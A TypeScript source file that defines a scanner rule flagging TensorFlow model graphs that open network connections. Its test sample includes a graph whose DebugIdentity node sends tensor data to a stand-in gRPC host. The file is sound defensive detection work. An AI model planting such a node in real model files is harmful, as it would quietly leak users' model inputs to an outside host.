// Operations that talk to other machines.

import { defineRule } from '../../define-rule.ts';

export const reachesNetwork = defineRule({
  id: 'graph/reaches-network',
  title: 'Running this model opens network connections',
  category: 'network',
  severity: 'high',
  stability: 'stable',
  since: '0.1',
  cwe: [829, 918],
  owasp: ['ML06:2023', 'LLM03:2025'],
  atlas: ['AML.T0010.003', 'AML.T0011.000'],
  tags: ['graph'],
  message: '{framework} operation {op} at {place} {effect}: {detail}',
  why: 'A graph that talks to a host can carry inputs out or bring data in, whenever the model is run.',
  fix: ['Do not run the model where it can reach the network', 'Ask its author why the graph needs a host'],
  falsePositives: 'Graphs exported from distributed training.',
  samples: {
    fires: [
      'text(graph.pbtxt): node { name: "c" op: "Const" attr { key: "dtype" value { type: DT_STRING } } attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape { } string_val: "x" } } } } node { name: "n" op: "DebugIdentity" input: "c" attr { key: "debug_urls" value { list { s: "grpc://192.0.2.1:6064" } } } } versions { producer: 1 }',
    ],
    silent: [
      'text(graph.pbtxt): node { name: "x" op: "Placeholder" attr { key: "dtype" value { type: DT_FLOAT } } } node { name: "y" op: "Relu" input: "x" attr { key: "T" value { type: DT_FLOAT } } } versions { producer: 1 }',
    ],
  },
});
